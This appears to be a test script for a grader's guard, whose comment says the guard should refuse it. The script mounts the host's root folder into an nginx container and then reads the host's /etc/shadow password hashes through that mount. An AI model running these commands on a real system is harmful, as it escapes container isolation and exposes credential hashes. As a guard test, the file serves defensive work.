#!/bin/sh
# Mounts the host's root folder into the container, then reads the host's
# password hashes through it. grade's guard refuses the docker run (a host
# folder outside the submission), so no container starts.
docker run -d -p 8080:80 --name my-web-server -v /:/host nginx
docker exec my-web-server cat /host/etc/shadow
